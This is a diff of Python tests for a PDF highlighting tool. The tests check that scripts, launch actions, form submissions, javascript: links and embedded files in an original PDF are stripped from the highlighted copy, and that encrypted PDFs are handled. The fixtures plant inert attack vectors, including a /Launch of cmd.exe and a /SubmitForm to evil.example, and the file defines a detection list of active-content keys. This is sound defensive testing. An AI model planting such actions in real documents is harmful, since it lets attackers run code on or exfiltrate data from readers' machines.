@@ -364,3 +364,276 @@ def test_unusable_source_is_refused_with_input_error(result, tmp_path, case, rea
         highlight_pdf(result, source, tmp_path / "out.pdf")
     assert caught.value.path == str(source)
     assert not (tmp_path / "out.pdf").exists()
+
+
+# --- the copy is safe to open: active content of the original is stripped ------------------------------
+
+# keys and names that mean a script, a program, data sent out or an attached file
+ACTIVE_MARKERS = {"/JS", "/JavaScript", "/Launch", "/SubmitForm", "/AA", "/EmbeddedFiles", "/EF", "/XFA"}
+
+
+def _script(pdf: pikepdf.Pdf, code: str = "app.alert('x')") -> pikepdf.Dictionary:
+    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))
+
+
+def _annotate(pdf: pikepdf.Pdf, page: int, annotation: pikepdf.Dictionary) -> pikepdf.Dictionary:
+    page_obj = pdf.pages[page - 1].obj
+    if "/Annots" not in page_obj:
+        page_obj.Annots = pdf.make_indirect(pikepdf.Array())
+    annotation = pdf.make_indirect(annotation)
+    page_obj.Annots.append(annotation)
+    return annotation
+
+
+def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 100, 200, 118], A=action
+    )
+    _annotate(pdf, 1, link)
+
+
+def _attached_file(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
+    payload = pikepdf.Stream(pdf, b"MZ not really a program")
+    payload.Type = pikepdf.Name.EmbeddedFile
+    return pikepdf.Dictionary(
+        Type=pikepdf.Name.Filespec, F=pikepdf.String("payload.exe"), EF=pikepdf.Dictionary(F=payload)
+    )
+
+
+def _bookmark(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
+    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, Count=1))
+    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Start"), Parent=outlines, A=action))
+    outlines.First = outlines.Last = item
+    pdf.Root.Outlines = outlines
+
+
+def _form_button(pdf: pikepdf.Pdf) -> None:
+    widget = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Widget,
+        FT=pikepdf.Name.Btn,
+        T=pikepdf.String("go"),
+        Rect=[400, 100, 460, 120],
+        A=_script(pdf),
+        AA=pikepdf.Dictionary(U=_script(pdf), Fo=_script(pdf)),
+    )
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([_annotate(pdf, 1, widget)]))
+
+
+def _xfa_form(pdf: pikepdf.Pdf) -> None:
+    xfa = pikepdf.Stream(pdf, b"<xdp:xdp><script contentType='application/x-javascript'>x</script></xdp:xdp>")
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
+
+
+def _launch(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
+    return pikepdf.Dictionary(
+        S=pikepdf.Name.Launch,
+        F=pikepdf.String("cmd.exe"),
+        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")),
+    )
+
+
+# what the case is for, and how it puts active content into the original
+ACTIVE_CONTENT = [
+    ("a script run on opening (/OpenAction)", lambda pdf: setattr(pdf.Root, "OpenAction", _script(pdf))),
+    (
+        "scripts run on closing and printing (catalog /AA)",
+        lambda pdf: setattr(pdf.Root, "AA", pikepdf.Dictionary(WC=_script(pdf), WP=_script(pdf))),
+    ),
+    (
+        "document-level scripts (/Names /JavaScript)",
+        lambda pdf: setattr(
+            pdf.Root,
+            "Names",
+            pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("init"), _script(pdf)])),
+        ),
+    ),
+    (
+        "an attached program (/Names /EmbeddedFiles)",
+        lambda pdf: setattr(
+            pdf.Root,
+            "Names",
+            pikepdf.Dictionary(
+                EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("x"), _attached_file(pdf)])
+            ),
+        ),
+    ),
+    ("a scriptable XML form (/AcroForm /XFA)", _xfa_form),
+    (
+        "a script run on viewing a page (page /AA)",
+        lambda pdf: setattr(pdf.pages[0].obj, "AA", pikepdf.Dictionary(O=_script(pdf))),
+    ),
+    ("a link running a script", lambda pdf: _link(pdf, _script(pdf))),
+    ("a link starting a program (/Launch)", lambda pdf: _link(pdf, _launch(pdf))),
+    (
+        "a link sending form data (/SubmitForm)",
+        lambda pdf: _link(
+            pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
+        ),
+    ),
+    (
+        "a javascript: web link",
+        lambda pdf: _link(
+            pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(" JavaScript:app.alert(1)"))
+        ),
+    ),
+    (
+        "a page move chained to a program (/Next)",
+        lambda pdf: _link(
+            pdf,
+            pikepdf.Dictionary(
+                S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=[_launch(pdf)]
+            ),
+        ),
+    ),
+    ("a bookmark running a script", lambda pdf: _bookmark(pdf, _script(pdf))),
+    ("a form button with scripts (widget /A and /AA)", _form_button),
+    (
+        "an attached program on a page (/FileAttachment)",
+        lambda pdf: _annotate(
+            pdf,
+            1,
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Annot,
+                Subtype=pikepdf.Name.FileAttachment,
+                Rect=[10, 10, 20, 20],
+                FS=_attached_file(pdf),
+            ),
+        ),
+    ),
+]
+
+
+def active_markers(path: Path) -> set[str]:
+    """Every key or name of :data:`ACTIVE_MARKERS`, and ``javascript:`` links, found in any object."""
+    found: set[str] = set()
+    with pikepdf.open(path) as pdf:
+        for obj in pdf.objects:
+            pending = [obj.stream_dict if isinstance(obj, pikepdf.Stream) else obj]
+            while pending:
+                current = pending.pop()
+                if isinstance(current, pikepdf.Dictionary):
+                    found |= {key for key in current if key in ACTIVE_MARKERS}
+                    children = list(current.values())
+                elif isinstance(current, pikepdf.Array):
+                    children = list(current)
+                else:
+                    continue
+                for child in children:
+                    if isinstance(child, pikepdf.Name) and str(child) in ACTIVE_MARKERS:
+                        found.add(str(child))
+                    elif isinstance(child, pikepdf.String) and "javascript:" in str(child).lower():
+                        found.add("javascript:")
+                    elif isinstance(child, pikepdf.Dictionary | pikepdf.Array) and not child.is_indirect:
+                        pending.append(child)
+    return found
+
+
+def with_harmless_annotations(pdf: pikepdf.Pdf) -> None:
+    """A web link and a reviewer's note on page 2: what a safe copy keeps."""
+    web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"))
+    _annotate(
+        pdf,
+        2,
+        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72, 200, 90], A=web),
+    )
+    _annotate(
+        pdf,
+        2,
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Text,
+            Rect=[300, 700, 320, 720],
+            Contents="Reviewer note",
+        ),
+    )
+
+
+@pytest.mark.parametrize(("purpose", "plant"), ACTIVE_CONTENT, ids=[purpose for purpose, _ in ACTIVE_CONTENT])
+def test_active_content_of_the_original_is_not_in_the_highlighted_copy(result, tmp_path, purpose, plant):
+    source = tmp_path / "active.pdf"
+    with pikepdf.open(SAMPLE) as pdf:
+        with_harmless_annotations(pdf)
+        plant(pdf)
+        pdf.save(source)
+    assert active_markers(source) or purpose.endswith("(/FileAttachment)"), "the case plants nothing"
+    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
+    assert active_markers(out) == set(), purpose
+    with pikepdf.open(out) as pdf:
+        assert not isinstance(pdf.Root.get("/OpenAction"), pikepdf.Dictionary)  # the sample's page stays
+        subtypes = [str(a.get("/Subtype")) for page in pdf.pages for a in page.obj.get("/Annots", [])]
+        assert "/FileAttachment" not in subtypes
+    assert len(our_highlights(out)) == len(expected_triples(result))
+    with pdfplumber.open(out) as pdf:
+        annots = pdf.pages[1].annots
+    assert [a["uri"] for a in annots if a["data"]["Subtype"].name == "Link"] == ["https://example.org/"]
+    assert [a["contents"] for a in annots if a["data"]["Subtype"].name == "Text"] == ["Reviewer note"]
+
+
+def test_a_form_button_keeps_its_field_without_its_scripts(result, tmp_path):
+    source = tmp_path / "form.pdf"
+    with pikepdf.open(SAMPLE) as pdf:
+        _form_button(pdf)
+        pdf.save(source)
+    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
+    with pikepdf.open(out) as pdf:
+        (field,) = pdf.Root.AcroForm.Fields
+        assert str(field.T) == "go" and "/A" not in field and "/AA" not in field
+        assert any(annot.objgen == field.objgen for annot in pdf.pages[0].obj.Annots)
+
+
+def test_opening_at_a_page_and_links_within_the_document_are_kept(result, tmp_path):
+    source = tmp_path / "moves.pdf"
+    with pikepdf.open(SAMPLE) as pdf:
+        pdf.Root.OpenAction = pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
+        move = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[2].obj, pikepdf.Name.Fit])
+        _link(pdf, move)
+        pdf.save(source)
+    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf")
+    with pikepdf.open(out) as pdf:
+        assert pdf.Root.OpenAction[0].objgen == pdf.pages[1].obj.objgen
+        links = [a for a in pdf.pages[0].obj.Annots if a.get("/Subtype") == pikepdf.Name.Link]
+        assert [str(link.A.S) for link in links] == ["/GoTo"]
+
+
+def test_an_action_chain_that_loops_back_is_read_once():
+    from analyzer.report.pdf import is_active_action
+
+    pdf = pikepdf.new()
+    first = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage))
+    second = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.PrevPage, Next=first))
+    first.Next = second
+    assert not is_active_action(first)
+    second.Next = pikepdf.Array([first, _script(pdf)])
+    assert is_active_action(first)
+
+
+# --- encrypted originals: the password is used only when the PDF needs one ---------------------------
+
+
+def _encrypted_copy(path: Path, *, user: str, owner: str = "owner") -> Path:
+    with pikepdf.open(SAMPLE) as pdf:
+        pdf.save(path, encryption=pikepdf.Encryption(user=user, owner=owner))
+    return path
+
+
+@pytest.mark.parametrize(
+    "password", [None, "zzz", "owner"], ids=["no password", "any password", "the owner's"]
+)
+def test_a_pdf_locked_by_an_owner_password_alone_is_highlighted_whatever_password_is_given(
+    result, tmp_path, password
+):
+    source = _encrypted_copy(tmp_path / "owner-only.pdf", user="")
+    out = highlight_pdf(retargeted(result, source), source, tmp_path / "out.pdf", password=password)
+    assert len(our_highlights(out)) == len(expected_triples(result))
+
+
+def test_a_pdf_locked_by_a_user_password_needs_the_right_one(result, tmp_path):
+    source = _encrypted_copy(tmp_path / "locked.pdf", user="secret")
+    audit = retargeted(result, source)
+    with pytest.raises(InputError, match="password given for this PDF is wrong"):
+        highlight_pdf(audit, source, tmp_path / "wrong.pdf", password="zzz")
+    with pytest.raises(InputError, match="give its password"):
+        highlight_pdf(audit, source, tmp_path / "none.pdf")
+    out = highlight_pdf(audit, source, tmp_path / "out.pdf", password="secret")
+    assert len(our_highlights(out)) == len(expected_triples(result))
